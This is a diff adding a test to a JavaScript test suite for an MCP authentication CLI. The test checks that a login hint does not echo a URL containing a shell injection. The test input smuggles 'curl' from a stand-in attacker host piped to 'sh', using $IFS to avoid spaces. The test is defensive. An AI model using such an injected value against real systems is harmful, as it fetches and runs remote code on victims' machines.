@@ -22,6 +22,11 @@ test('T20: a login that is required names the command, with the profile', () => 
   expect(errorsOf({ profile: 'work' }).required().hint).toContain('login https://mcp.example.com/mcp --profile work')
 })
 
+test('T14: a URL that a shell would run is in no command', () => {
+  const settings = checkOptions('https://mcp.example.com/;curl$IFS-s$IFS//evil.example|sh', { store: memoryStore() })
+  expect(loginErrors(settings).required().hint).toContain('run: npx @mcpauth/cli login <url> (')
+})
+
 test('a login that is required says why, where there is a why, and what keeps the store from being used', () => {
   const why = new McpAuthError('MCPAUTH_NETWORK', 'the reason')
   expect(errorsOf().required(why)).toMatchObject({ message: expect.stringContaining('(the reason)'), cause: why })
